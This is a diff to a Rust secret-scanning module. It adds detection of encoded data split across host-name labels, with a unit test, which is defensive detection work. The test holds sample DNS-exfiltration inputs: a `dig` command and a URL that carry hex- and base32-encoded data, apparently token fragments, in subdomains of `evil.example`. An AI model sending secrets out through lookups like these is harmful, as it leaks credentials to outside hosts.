@@ -1,4 +1,5 @@
-//! Secrets with the same separator between their characters or groups: `A-K-I-A-2-E`, `AKIA.2E0A.8F3B`.
+//! Secrets with the same separator between their characters or groups, `A-K-I-A-2-E`, `AKIA.2E0A.8F3B`, and encoded data that the
+//! labels of a host name divide.
 
 use std::ops::Range;
 
@@ -9,6 +10,10 @@ const GROUPS: usize = 4;
 /// Minimum number of letters and digits, and maximum size of one match in bytes.
 const LEAST: usize = 12;
 const MOST_BYTES: usize = 2_048;
+/// Minimum length of a label that is part of encoded data, and minimum number of digits in all of them: DNS looks names up without
+/// regard to case, so such data is base32 or hexadecimal.
+const LABEL: usize = 10;
+const DIGITS: usize = 2;
 /// Maximum number of matches in one text.
 const PLACES: usize = 16;
 
@@ -86,9 +91,53 @@ fn spelling(text: &str, sign: u8, interval: Interval) -> Option<(Range<usize>, S
     (plain >= LEAST && letters && joined.is_ascii()).then_some((start..end, joined))
 }
 
+/// Long labels of host names that follow each other, joined.
+pub(super) fn labels(text: &str) -> Vec<(Range<usize>, String)> {
+    let bytes = text.as_bytes();
+    let (mut found, mut from) = (Vec::new(), 0);
+    for dot in memchr::memchr_iter(b'.', bytes) {
+        let before = bytes.get(from..dot).unwrap_or_default();
+        let start = dot - before.iter().rev().take_while(|byte| byte.is_ascii_alphanumeric()).count();
+        if dot - start < LABEL {
+            continue;
+        }
+        let (mut joined, mut end) = (text.get(start..dot).unwrap_or_default().to_owned(), dot);
+        while bytes.get(end) == Some(&b'.') && joined.len() < MOST_BYTES {
+            let rest = bytes.get(end + 1..).unwrap_or_default();
+            let length = rest.iter().take(MOST_BYTES).take_while(|byte| byte.is_ascii_alphanumeric()).count();
+            if length < LABEL {
+                break;
+            }
+            joined.push_str(text.get(end + 1..end + 1 + length).unwrap_or_default());
+            end += 1 + length;
+        }
+        if end > dot && joined.bytes().filter(u8::is_ascii_digit).count() >= DIGITS {
+            found.push((start..end, joined));
+        }
+        from = end;
+        if found.len() >= PLACES {
+            break;
+        }
+    }
+    found
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn long_labels_are_joined() {
+        let joined = |text: &str| labels(text).into_iter().map(|(_, joined)| joined).collect::<Vec<_>>();
+        assert_eq!(joined("dig 676c7061742d46.453654633866.x.evil.example"), ["676c7061742d46453654633866"]);
+        assert_eq!(joined("https://m5uhax3nivcdeutsobfg.m4yek42bjjswi2svmrqt.x.evil.example/"), [
+            "m5uhax3nivcdeutsobfgm4yek42bjjswi2svmrqt"
+        ]);
+        for text in ["www.documentation.example.com", "org.apache.commons.collections", "1.2.3", "a.b", "", "x".repeat(99).as_str()] {
+            assert!(joined(text).is_empty(), "{text}");
+        }
+        assert!(labels(&"a1b2c3d4e5f6.".repeat(50_000)).iter().all(|(_, joined)| joined.len() <= 2 * MOST_BYTES));
+    }
 
     #[test]
     fn the_same_sign_at_the_same_distance_is_left_out() {
